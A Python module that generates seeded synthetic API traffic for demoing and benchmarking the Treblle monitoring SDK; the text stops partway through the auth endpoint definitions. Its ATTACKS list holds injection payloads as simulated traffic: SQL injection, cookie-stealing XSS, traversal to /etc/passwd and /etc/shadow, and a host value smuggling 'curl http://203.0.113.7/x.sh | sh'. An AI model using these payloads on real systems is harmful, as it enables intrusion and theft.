"""Demo traffic: realistic Treblle payloads for a quick local demo and for benchmarks.

`demo_payloads` yields payloads exactly as the SDKs send them, one API per SDK flavour:

- Payments API: format A, Django SDK 2.x (version 20, load_time ms, wall-clock time in
  America/New_York, `route_path` like `api/orders/{order_id}`, the query as a dict beside a URL
  without one, request.ip taken from X-Forwarded-For) -- shaped like tests/sdk/samples;
- Catalog API: format A, `@treblle/express` 1.x (load_time in microseconds, UTC timestamps whatever
  timezone the server reports, size as a string) -- shaped like tests/sdk/samples;
- Auth API: format B, Laravel (ms, Europe/Berlin wall clock, `data.metadata`, size as a string,
  request.ip the load balancer's);
- Shipping API: format B, treblle-node 3 (ms, America/Chicago wall clock, `data.metadata`).

More API keys than profiles reuse the profiles in turn. The traffic has Zipf-like customer sizes
(a few big customers, a long tail, partly shared across APIs), customers that join and churn
during the window, display names for most customers, the customer id carried every way the design
lists (and ~10% unidentified calls), a daily and weekly rhythm in each customer's home timezone
with bursts and incidents, 4xx/5xx errors with `errors[]`, log-normal load times with slow
outliers, browsers, phones, tablets, API clients and AI agents, client IPs from ~30 countries
(verified with geoip2fast), injection attempts, calls without authorization and some plain HTTP.

Everything is drawn from one `random.Random(seed)`: the same arguments give the same payloads.
Wall-clock timestamps in the hour a server's clock falls back (DST end) are ambiguous, as with the
real SDKs; Footfall reads them as the first of the two hours.
Speed: the per-customer, per-endpoint and per-hour work is done once up front; a payload costs a
few dict literals and ~20 random draws. Bodies, error entries and `server`/`language` objects
are shared between payloads: treat payloads as read-only (or copy what you change).
"""

from __future__ import annotations

import base64
import math
import random
from bisect import bisect_right
from collections.abc import Iterator
from datetime import datetime
from typing import Any
from urllib.parse import parse_qsl, quote
from zoneinfo import ZoneInfo

import orjson

DEMO_APIS: list[tuple[str, str]] = [
    ("Payments API", "demo-payments-key"),
    ("Catalog API", "demo-catalog-key"),
    ("Auth API", "demo-auth-key"),
    ("Shipping API", "demo-shipping-key"),
]

UNIDENTIFIED_SHARE = 0.10
AI_SHARE_IDENTIFIED = 0.025  # assistants acting for a customer (ChatGPT-User, Claude-User, ...)
AI_SHARE_UNIDENTIFIED = 0.12  # crawlers (GPTBot, ClaudeBot, ...)
ATTACK_SHARE = 0.015
PLAIN_HTTP_SHARE = 0.012
MISSING_AUTH_SHARE = 0.015
ZIPF_EXPONENT = 1.05
CLIENT_ERROR_SCALE = 0.65  # on the endpoints' 4xx rates; missing credentials and attacks add their own


def customer_count(count: int) -> int:
    """How many customers a demo of `count` requests has: ~300 per 10k requests, growing more
    slowly than the traffic (the same customers keep calling), between 8 and 50,000."""
    return max(8, min(50_000, round(300 * (max(count, 1) / 10_000) ** 0.75)))


# --- Countries: rhythm offset (hours), weight as a home country, /24 prefixes ----------------------
# Every prefix was checked with geoip2fast for all last octets 1-254 (see tests/core/test_demo.py).

COUNTRIES: dict[str, tuple[float, float, tuple[str, ...]]] = {
    "US": (-5, 22, ("23.21.1", "3.80.0", "104.244.42", "73.162.10", "98.137.11", "24.5.20")),
    "GB": (0, 8, ("81.2.69", "212.58.244", "86.12.30", "2.24.1", "92.40.1")),
    "DE": (1, 7, ("85.214.132", "217.160.0", "91.64.10", "84.132.1", "79.192.1")),
    "IN": (5.5, 6, ("49.44.1", "117.192.1", "106.51.1", "122.160.1", "223.176.1")),
    "FR": (1, 5, ("90.84.1", "163.172.1", "82.64.10", "86.192.1", "176.128.1")),
    "CA": (-5, 4, ("142.112.1", "24.114.1", "99.224.1", "70.48.1", "174.88.1")),
    "BR": (-3, 4, ("200.147.1", "177.12.1", "189.6.1", "179.96.1", "201.17.1")),
    "NL": (1, 3, ("145.53.1", "94.208.1", "84.104.1", "77.160.1")),
    "JP": (9, 3, ("133.242.1", "126.0.1", "210.130.1", "153.156.1", "60.32.1")),
    "AU": (10, 3, ("139.130.4", "203.2.218", "101.160.1", "120.16.1", "58.160.1")),
    "ES": (1, 2.5, ("80.58.61", "83.32.1", "88.0.1", "79.144.1")),
    "IT": (1, 2.5, ("151.38.1", "79.1.1", "93.36.1", "87.1.1")),
    "SE": (1, 2, ("78.68.1", "194.132.1", "90.224.1", "81.224.1")),
    "PL": (1, 2, ("83.0.1", "89.64.1", "31.60.1", "37.47.1")),
    "KR": (9, 2, ("211.234.1", "121.134.1", "175.192.1", "222.112.1")),
    "SG": (8, 2, ("165.21.1", "116.86.1", "118.189.1", "202.166.1")),
    "MX": (-6, 2, ("187.190.1", "189.203.1", "201.141.1", "177.224.1")),
    "IE": (0, 1.5, ("87.32.1", "86.40.1", "89.100.1", "109.76.1")),
    "CH": (1, 1.5, ("178.197.1", "195.186.1", "85.0.1", "83.76.1")),
    "ZA": (2, 1.2, ("41.13.1", "105.224.1", "196.21.1", "102.132.1")),
    "NG": (1, 1.2, ("41.58.1", "102.89.1", "105.112.1", "197.210.1")),
    "TR": (3, 1.2, ("88.224.1", "78.160.1", "85.96.1", "176.232.1")),
    "AR": (-3, 1.2, ("181.46.1", "190.55.1", "200.45.1", "186.22.1")),
    "ID": (7, 1.2, ("36.68.1", "114.124.1", "180.244.1", "110.136.1")),
    "CN": (8, 1.0, ("220.181.38", "180.76.76", "123.125.1", "101.226.1")),
    "VN": (7, 1.0, ("113.160.1", "14.160.1", "27.64.1", "171.224.1")),
    "PH": (8, 1.0, ("112.198.1", "120.28.1", "49.145.1", "124.106.1")),
    "IL": (2, 1.0, ("79.176.1", "109.64.1", "212.143.1", "46.116.1")),
    "NZ": (12, 0.8, ("125.236.1", "202.27.1", "121.98.1", "115.188.1")),
    "UA": (2, 0.8, ("91.196.1", "176.36.1", "46.211.1", "178.150.1")),
    "KE": (3, 0.6, ("41.89.1", "105.160.1", "197.232.1", "41.90.1")),
    "EG": (2, 0.6, ("41.32.1", "156.160.1", "197.32.1", "41.232.1")),
}

_COMPANY_SUFFIX = {
    "DE": " GmbH", "CH": " AG", "GB": " Ltd", "IE": " Ltd", "FR": " SA", "ES": " SL", "BR": " Ltda",
    "NL": " BV", "SE": " AB", "PL": " sp. z o.o.", "IT": " S.p.A.", "JP": " KK", "US": " Inc",
    "CA": " Inc", "AU": " Pty Ltd", "IN": " Pvt Ltd", "MX": " SA de CV",
}

# --- User agents ---------------------------------------------------------------------------------

_CHROME = (139, 140, 141, 142)
_FIREFOX = (142, 143, 144, 145)
DESKTOP_UAS = tuple(
    [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in _CHROME]
    + [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in _CHROME]
    + [f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36" for v in _CHROME[2:]]
    + [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0" for v in _CHROME[1:]]
    + [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in _FIREFOX]
    + [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in _FIREFOX[2:]]
    + [f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in _FIREFOX[1:]]
    + [f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Safari/605.1.15" for v in ("18.6", "26.0", "26.1")]
)
MOBILE_UAS = tuple(
    [f"Mozilla/5.0 (iPhone; CPU iPhone OS {v.replace('.', '_')} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1" for v in ("18.6", "26.0", "26.1")]
    + [f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36" for v in _CHROME]
    + ["Mozilla/5.0 (Linux; Android 15; SM-S931B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
       "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/141.0.7390.41 Mobile/15E148 Safari/604.1"]
)
TABLET_UAS = (
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
)
SERVER_CLIENT_UAS = (
    "python-requests/2.32.3", "python-requests/2.32.5", "python-httpx/0.28.1", "Go-http-client/1.1",
    "Go-http-client/2.0", "axios/1.12.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "okhttp/4.12.0", "Apache-HttpClient/5.4.1 (Java/21.0.5)", "GuzzleHttp/7", "Faraday v2.13.1",
    "Java/17.0.12",
)
DEV_TOOL_UAS = ("curl/8.5.0", "curl/8.14.1", "curl/7.81.0", "PostmanRuntime/7.45.0", "PostmanRuntime/7.39.1", "insomnia/11.2.0")
AI_AGENT_UAS = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)",
    "Mozilla/5.0 (compatible; Google-Extended/1.0; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Gemini-Deep-Research; +https://gemini.google/overview/deep-research/) Chrome/135.0.0.0 Safari/537.36",
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)",
)
# Assistants that act for a signed-in user (so they may carry the customer's id and token).
_ASSISTANT_UAS = tuple(ua for ua in AI_AGENT_UAS if "-User" in ua or "Deep-Research" in ua)
SCANNER_UAS = (
    "sqlmap/1.9.8#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
_ACCEPT_LANGUAGE = {
    "US": "en-US,en;q=0.9", "CA": "en-CA,en;q=0.9,fr-CA;q=0.8", "GB": "en-GB,en;q=0.9", "IE": "en-IE,en;q=0.9",
    "AU": "en-AU,en;q=0.9", "NZ": "en-NZ,en;q=0.9", "DE": "de-DE,de;q=0.9,en;q=0.8", "CH": "de-CH,de;q=0.9,en;q=0.7",
    "FR": "fr-FR,fr;q=0.9,en;q=0.7", "ES": "es-ES,es;q=0.9,en;q=0.8", "MX": "es-MX,es;q=0.9,en;q=0.8",
    "AR": "es-AR,es;q=0.9,en;q=0.8", "BR": "pt-BR,pt;q=0.9,en;q=0.8", "IT": "it-IT,it;q=0.9,en;q=0.8",
    "NL": "nl-NL,nl;q=0.9,en;q=0.8", "SE": "sv-SE,sv;q=0.9,en;q=0.8", "PL": "pl-PL,pl;q=0.9,en;q=0.8",
    "JP": "ja-JP,ja;q=0.9,en;q=0.8", "KR": "ko-KR,ko;q=0.9,en;q=0.8", "CN": "zh-CN,zh;q=0.9,en;q=0.8",
    "TR": "tr-TR,tr;q=0.9,en;q=0.8", "UA": "uk-UA,uk;q=0.9,en;q=0.8", "VN": "vi-VN,vi;q=0.9,en;q=0.8",
    "ID": "id-ID,id;q=0.9,en;q=0.8", "IL": "he-IL,he;q=0.9,en;q=0.8", "EG": "ar-EG,ar;q=0.9,en;q=0.8",
}

# --- Ids, names, bodies --------------------------------------------------------------------------

_ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
_HEXCHARS = "0123456789abcdef"
_B64_TO_ALNUM = str.maketrans("+/", "xQ")

FAMOUS_COMPANIES = (
    "Acme Corp", "Globex", "Initech", "Umbrella Corp", "Stark Industries", "Wayne Enterprises", "Hooli",
    "Pied Piper", "Soylent", "Cyberdyne Systems", "Vandelay Industries", "Wonka Industries", "Tyrell Corp",
    "Massive Dynamic", "Aperture Science", "Dunder Mifflin", "Nakatomi Trading", "Bluth Company",
    "Sterling Cooper", "Virtucon", "Wernham Hogg", "Oceanic Airlines", "Weyland-Yutani", "Gringotts",
    "Monarch Solutions", "Prestige Worldwide", "Blue Sun", "Northwind Traders", "Contoso", "Fabrikam",
)
_WORD_A = (
    "Blue", "North", "Silver", "Bright", "Iron", "Red", "Green", "Swift", "Clear", "Golden", "Quantum",
    "Pacific", "Atlas", "Summit", "Harbor", "Cedar", "Maple", "Falcon", "Nova", "Vertex", "Lumen", "Polar",
    "Copper", "Granite", "River", "Sun", "Orbit", "Pioneer", "Crescent", "Evergreen", "Prairie", "Aurora",
    "Beacon", "Coastal", "Delta", "Echo", "Fusion", "Horizon", "Juniper", "Keystone", "Lakeside",
    "Meridian", "Oak", "Pinnacle", "Redwood", "Sterling", "Trident", "Union", "Vista", "Willow",
)
_WORD_B = (
    "Labs", "Logistics", "Health", "Retail", "Foods", "Systems", "Analytics", "Commerce", "Travel", "Media",
    "Capital", "Energy", "Robotics", "Software", "Networks", "Bank", "Insurance", "Pharma", "Motors",
    "Studios", "Games", "Apparel", "Outdoors", "Markets", "Telecom", "Security", "Cloud", "Freight",
    "Learning", "Realty",
)
_WORD_C = ("", "", "", "Group", "Partners", "Digital", "Solutions", "Holdings", "Works", "Direct", "Global")
_FIRST = (
    "Maria", "James", "Wei", "Aisha", "Lucas", "Sofia", "Hiroshi", "Priya", "Liam", "Emma", "Mateo", "Olga",
    "Noah", "Fatima", "Elena", "Kwame", "Yuki", "Arjun", "Chloe", "Diego", "Ingrid", "Omar", "Hannah", "Jun",
)
_LAST = (
    "Garcia", "Smith", "Chen", "Khan", "Müller", "Rossi", "Tanaka", "Patel", "Johnson", "Dubois", "Silva",
    "Kowalski", "Nguyen", "Okafor", "Andersson", "Ivanova", "Kim", "Cohen", "Novak", "Fernández", "Brown",
)
_EMAIL_DOMAINS = ("gmail.com", "outlook.com", "icloud.com", "proton.me", "yahoo.com")
_PLANS = ("free", "starter", "pro", "business", "enterprise")

PRODUCTS = (
    ("Trail Running Shoes", 12999, "shoes"), ("Merino Wool Socks", 1899, "apparel"),
    ("Waterproof Jacket", 18900, "apparel"), ("Insulated Bottle 750ml", 3499, "outdoor"),
    ("Noise-Cancelling Headphones", 29900, "electronics"), ("USB-C Charger 65W", 4599, "electronics"),
    ("Ergonomic Office Chair", 34900, "furniture"), ("Standing Desk", 54900, "furniture"),
    ("Espresso Beans 1kg", 2899, "grocery"), ("Yoga Mat", 3999, "sports"), ("Camping Tent 2P", 24900, "outdoor"),
    ("Mechanical Keyboard", 11900, "electronics"), ("Linen Shirt", 5900, "apparel"), ("Desk Lamp", 4900, "furniture"),
)
CITIES = (  # city, country, postal code, street
    ("Berlin", "DE", "10115", "Invalidenstraße"), ("New York", "US", "10001", "W 34th St"),
    ("London", "GB", "EC1A 1BB", "St Martin's Le Grand"), ("Paris", "FR", "75001", "Rue de Rivoli"),
    ("Toronto", "CA", "M5H 2N2", "Bay St"), ("São Paulo", "BR", "01310-100", "Avenida Paulista"),
    ("Tokyo", "JP", "100-0001", "Chiyoda"), ("Sydney", "AU", "2000", "George St"), ("Madrid", "ES", "28013", "Gran Vía"),
    ("Amsterdam", "NL", "1012 JS", "Damrak"), ("Chicago", "US", "60601", "N Michigan Ave"),
)
CARRIERS = ("ups", "dhl", "fedex", "usps", "dpd", "royal-mail")

# Injection attempts, as they reach the server: (query or None, body or None).
ATTACKS = (
    ("id=1%27%20OR%20%271%27%3D%271", None),
    ("id=1' OR '1'='1", None),
    ("q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", None),
    ("q=shoes%27%3B%20DROP%20TABLE%20orders%3B--", None),
    ("search=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", None),
    ("callback=<script>alert(1)</script>", None),
    ("file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", None),
    ("file=../../../../etc/passwd", None),
    ("host=8.8.8.8%3Bcat%20%2Fetc%2Fpasswd", None),
    (None, {"email": "admin@example.com' OR 1=1--", "password": "**********"}),
    (None, {"name": "<img src=x onerror=alert(document.domain)>", "note": "hello"}),
    (None, {"comment": "'; DROP TABLE users; --"}),
    (None, {"template": "../../../../../etc/shadow"}),
    (None, {"host": "example.com; curl http://203.0.113.7/x.sh | sh"}),
)

_CODE_4XX = ((400, 18), (401, 12), (403, 8), (404, 32), (409, 5), (422, 17), (429, 8))
_CODE_5XX = ((500, 55), (502, 20), (503, 15), (504, 10))
_MESSAGES = {
    400: ("bad_request", "The request body is not valid JSON."),
    401: ("unauthenticated", "Authentication credentials were not provided."),
    403: ("forbidden", "You do not have permission to perform this action."),
    404: ("not_found", "No resource matches the given id."),
    409: ("conflict", "The resource was modified by another request."),
    422: ("validation_failed", "The given data was invalid."),
    429: ("rate_limited", "Too many requests. Retry after 30 seconds."),
    500: ("server_error", "Internal Server Error"),
    502: ("bad_gateway", "Bad Gateway"),
    503: ("unavailable", "Service Unavailable"),
    504: ("timeout", "Gateway Timeout"),
}
_ERRORS = {
    "django": (
        ("OperationalError", "could not connect to server: Connection refused", "/app/payments/views.py", 212),
        ("KeyError", "'currency'", "/app/payments/serializers.py", 88),
        ("TimeoutError", "Read timed out. (read timeout=10)", "/app/payments/gateway.py", 141),
    ),
    "express": (
        ("TypeError", "Cannot read properties of undefined (reading 'price')", "/srv/app/src/routes/products.js", 64),
        ("Error", "connect ECONNREFUSED 10.0.4.21:6379", "/srv/app/node_modules/ioredis/built/Redis.js", 170),
        ("SequelizeConnectionError", "too many connections for role \"catalog\"", "/srv/app/src/db.js", 23),
    ),
    "laravel": (
        ("UNHANDLED_EXCEPTION", "SQLSTATE[HY000] [2002] Connection refused", "/var/www/html/app/Http/Controllers/TokenController.php", 57),
        ("E_ERROR", "Allowed memory size of 134217728 bytes exhausted", "/var/www/html/vendor/laravel/framework/src/Illuminate/Support/Collection.php", 1742),
        ("UNHANDLED_EXCEPTION", "Redis connection [cache] timed out", "/var/www/html/app/Services/SessionStore.php", 93),
    ),
    "node": (
        ("Error", "carrier rate request timed out after 10000ms", "/usr/src/app/dist/carriers/client.js", 118),
        ("TypeError", "Cannot read properties of null (reading 'postalCode')", "/usr/src/app/dist/routes/shipments.js", 47),
        ("MongoServerSelectionError", "connection <monitor> to 10.0.7.3:27017 closed", "/usr/src/app/node_modules/mongodb/lib/sdam/topology.js", 303),
    ),
}


def _token(g: random.Random, n: int, alphabet: str = _ALNUM) -> str:
    """n random characters (letters and digits, or hex) with at least one digit and, for n > 1,
    one letter, the way generated ids and keys look."""
    if alphabet == _HEXCHARS:
        text = f"{g.getrandbits(4 * n):0{n}x}"
    else:
        text = base64.b64encode(g.randbytes(n)).decode()[:n].translate(_B64_TO_ALNUM)
    if text.isalpha():
        i = int(g.random() * n)
        text = text[:i] + str(int(g.random() * 10)) + text[i + 1 :]
    if n > 1 and text.isdigit():
        i = int(g.random() * n)
        text = text[:i] + "abcdef"[int(g.random() * 6)] + text[i + 1 :]
    return text


def _masked(g: random.Random) -> str:
    """A secret as the SDKs send it: one asterisk per character."""
    return "*" * g.randint(8, 16)


def _uuid(g: random.Random) -> str:
    h = f"{g.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(g.random() * 4)]}{h[17:20]}-{h[20:]}"


def _money(g: random.Random, low: int, high: int) -> int:
    return int(math.exp(g.uniform(math.log(low), math.log(high)))) // 100 * 100 + 99


def _product(g: random.Random) -> dict:
    name, price, category = PRODUCTS[int(g.random() * len(PRODUCTS))]
    return {"id": g.randint(1000, 48000), "name": name, "price": price, "currency": "usd", "category": category}


def _address(g: random.Random) -> dict:
    city, country, postal, street = CITIES[int(g.random() * len(CITIES))]
    return {"line1": f"{g.randint(1, 240)} {street}", "city": city, "postal_code": postal, "country": country}


# --- Endpoints -----------------------------------------------------------------------------------
# (method, route template, weight, median ms, sigma, 4xx rate, 5xx rate, public, request body
#  factory or None, response body factory, success status)


def _ids(g: random.Random, name: str) -> str:
    if name in ("order_id", "user_id", "product_id", "customer_id", "review_id"):
        return str(g.randint(1000, 999999))
    if name == "payment_id":
        return "pay_" + _token(g, 14)
    if name == "invoice_id":
        return "in_" + _token(g, 14)
    if name == "method_id":
        return "pm_" + _token(g, 14)
    if name == "cart_id":
        return _uuid(g)
    if name == "shipment_id":
        return "shp_" + _token(g, 12, _HEXCHARS)
    if name == "sku":
        return str(g.randint(10_000_000, 99_999_999))
    raise ValueError(name)


def _payments(g):
    def pay(status):
        return lambda g: {"id": "pay_" + _token(g, 14), "object": "payment", "amount": _money(g, 500, 90000),
                          "currency": g.choice(("usd", "eur", "gbp")), "status": status,
                          "customer": "cus_" + _token(g, 6, _HEXCHARS), "created": 1760000000 + g.randint(0, 30000000)}

    def order(g):
        items = [_product(g) for _ in range(g.randint(1, 3))]
        return {"id": g.randint(100000, 999999), "status": g.choice(("paid", "pending", "shipped", "refunded")),
                "items": [{"product_id": i["id"], "name": i["name"], "quantity": g.randint(1, 3), "unit_price": i["price"]} for i in items],
                "total": sum(i["price"] for i in items), "currency": "usd"}

    return (
        ("POST", "/api/payments", 14, 180, 0.45, 0.07, 0.015, False,
         lambda g: {"amount": _money(g, 500, 90000), "currency": "usd", "payment_method": "pm_" + _token(g, 14),
                    "description": f"Order #{g.randint(100000, 999999)}", "capture": g.random() < 0.5},
         pay("requires_capture"), 201),
        ("GET", "/api/payments/{payment_id}", 18, 45, 0.4, 0.05, 0.006, False, None, pay("succeeded"), 200),
        ("POST", "/api/payments/{payment_id}/capture", 6, 220, 0.5, 0.06, 0.02, False, lambda g: {"amount_to_capture": _money(g, 500, 90000)},
         pay("succeeded"), 200),
        ("POST", "/api/refunds", 3, 160, 0.5, 0.08, 0.015, False,
         lambda g: {"payment": "pay_" + _token(g, 14), "amount": _money(g, 500, 20000), "reason": g.choice(("requested_by_customer", "duplicate", "fraudulent"))},
         lambda g: {"id": "re_" + _token(g, 14), "status": "pending"}, 201),
        ("POST", "/api/payment-methods", 4, 130, 0.4, 0.09, 0.01, False,
         lambda g: {"type": "card", "card_number": _masked(g), "ccv": "***", "exp_month": g.randint(1, 12), "exp_year": g.randint(2027, 2032),
                    "billing_details": {"name": f"{g.choice(_FIRST)} {g.choice(_LAST)}", "address": _address(g)}},
         lambda g: {"id": "pm_" + _token(g, 14), "type": "card", "card": {"brand": g.choice(("visa", "mastercard", "amex")), "last4": f"{g.randint(0, 9999):04d}"}}, 201),
        ("DELETE", "/api/payment-methods/{method_id}", 1, 60, 0.4, 0.1, 0.005, False, None, None, 204),
        ("GET", "/api/customers/{customer_id}/invoices", 8, 90, 0.5, 0.04, 0.008, False, None,
         lambda g: {"data": [{"id": "in_" + _token(g, 14), "amount_due": _money(g, 900, 50000), "status": g.choice(("paid", "open", "void"))}
                             for _ in range(g.randint(0, 4))], "has_more": g.random() < 0.2}, 200),
        ("GET", "/api/invoices/{invoice_id}", 7, 40, 0.4, 0.05, 0.005, False, None,
         lambda g: {"id": "in_" + _token(g, 14), "amount_due": _money(g, 900, 50000), "currency": "usd", "status": "paid", "lines": 2}, 200),
        ("GET", "/api/balance", 9, 28, 0.35, 0.02, 0.004, False, None,
         lambda g: {"available": [{"amount": g.randint(0, 9_000_000), "currency": "usd"}], "pending": [{"amount": g.randint(0, 900_000), "currency": "usd"}]}, 200),
        ("GET", "/api/orders", 8, 120, 0.55, 0.03, 0.008, False, None,
         lambda g: {"results": [order(g) for _ in range(g.randint(1, 3))], "next": None}, 200),
        ("GET", "/api/orders/{order_id}", 12, 55, 0.45, 0.06, 0.006, False, None, order, 200),
        ("POST", "/api/orders", 6, 210, 0.5, 0.08, 0.015, False,
         lambda g: {"items": [{"product_id": g.randint(1000, 48000), "quantity": g.randint(1, 4)} for _ in range(g.randint(1, 3))],
                    "shipping_address": _address(g), "coupon": g.choice((None, "WELCOME10", "SPRING25"))},
         order, 201),
    )


def _catalog(g):
    return (
        ("GET", "/v1/products", 24, 80, 0.5, 0.02, 0.006, False, None,
         lambda g: {"data": [_product(g) for _ in range(g.randint(2, 4))], "page": g.randint(1, 20), "per_page": 50, "total": g.randint(200, 40000)}, 200),
        ("GET", "/v1/products/{product_id}", 30, 22, 0.45, 0.06, 0.004, False, None,
         lambda g: {**_product(g), "in_stock": g.random() < 0.85, "rating": round(g.uniform(3.1, 4.9), 1)}, 200),
        ("GET", "/v1/products/{product_id}/reviews", 7, 60, 0.5, 0.03, 0.006, False, None,
         lambda g: {"data": [{"id": g.randint(1, 900000), "rating": g.randint(1, 5), "title": g.choice(("Great fit", "Does the job", "Arrived late", "Love it"))}
                             for _ in range(g.randint(0, 3))]}, 200),
        ("GET", "/v1/categories", 8, 12, 0.3, 0.005, 0.002, True, None,
         lambda g: {"data": sorted({p[2] for p in PRODUCTS})}, 200),
        ("GET", "/v1/search", 14, 140, 0.6, 0.03, 0.01, False, None,
         lambda g: {"hits": [_product(g) for _ in range(g.randint(0, 3))], "took_ms": g.randint(4, 90)}, 200),
        ("POST", "/v1/carts", 5, 70, 0.4, 0.05, 0.01, False,
         lambda g: {"currency": "usd", "items": [{"product_id": g.randint(1000, 48000), "quantity": g.randint(1, 3)}]},
         lambda g: {"id": _uuid(g), "items": 1, "subtotal": _money(g, 900, 30000)}, 201),
        ("PUT", "/v1/carts/{cart_id}/items", 6, 65, 0.4, 0.07, 0.01, False,
         lambda g: {"product_id": g.randint(1000, 48000), "quantity": g.randint(1, 5)},
         lambda g: {"id": _uuid(g), "items": g.randint(1, 6), "subtotal": _money(g, 900, 90000)}, 200),
        ("GET", "/v1/inventory/{sku}", 4, 35, 0.4, 0.05, 0.008, False, None,
         lambda g: {"available": g.randint(0, 500), "reserved": g.randint(0, 40), "warehouse": g.choice(("FRA1", "NYC2", "SIN1"))}, 200),
    )


def _auth(g):
    user = lambda g: {"id": g.randint(1000, 999999), "email": f"{g.choice(_FIRST).lower()}@{g.choice(_WORD_A).lower()}.io",  # noqa: E731
                      "name": f"{g.choice(_FIRST)} {g.choice(_LAST)}", "roles": g.choice((["user"], ["admin"], ["user", "billing"]))}
    tokens = lambda g: {"token_type": "Bearer", "expires_in": 3600, "access_token": "eyJ" + _token(g, 40), "refresh_token": "def50200" + _token(g, 30)}  # noqa: E731
    return (
        ("POST", "/oauth/token", 30, 95, 0.4, 0.05, 0.008, False,
         lambda g: {"grant_type": "client_credentials", "client_id": _token(g, 20), "client_secret": "cs_live_" + _token(g, 32), "scope": "read write"},
         tokens, 200),
        ("POST", "/auth/login", 12, 240, 0.35, 0.14, 0.008, True,
         lambda g: {"email": f"{g.choice(_FIRST).lower()}.{g.choice(_LAST).lower()}@{g.choice(_EMAIL_DOMAINS)}", "password": _masked(g), "remember": g.random() < 0.4},
         lambda g: {**tokens(g), "user": user(g)}, 200),
        ("POST", "/auth/refresh", 14, 40, 0.35, 0.06, 0.005, True, lambda g: {"refresh_token": "def50200" + _token(g, 30)}, tokens, 200),
        ("POST", "/auth/logout", 3, 18, 0.3, 0.02, 0.003, False, None, None, 204),
        ("GET", "/api/users/me", 20, 20, 0.35, 0.04, 0.004, False, None, user, 200),
        ("POST", "/api/users", 3, 310, 0.35, 0.12, 0.01, True,
         lambda g: {"name": f"{g.choice(_FIRST)} {g.choice(_LAST)}", "email": f"{g.choice(_FIRST).lower()}@{g.choice(_EMAIL_DOMAINS)}",
                    "password": (pw := _masked(g)), "password_confirmation": pw, "terms": True},
         user, 201),
        ("PATCH", "/api/users/{user_id}", 4, 60, 0.4, 0.08, 0.006, False,
         lambda g: {"name": f"{g.choice(_FIRST)} {g.choice(_LAST)}", "locale": g.choice(("en", "de", "fr", "pt-BR", "ja"))}, user, 200),
        ("GET", "/.well-known/jwks.json", 8, 4, 0.3, 0.0, 0.001, True, None,
         lambda g: {"keys": [{"kty": "RSA", "kid": _token(g, 12), "use": "sig", "alg": "RS256", "e": "AQAB"}]}, 200),
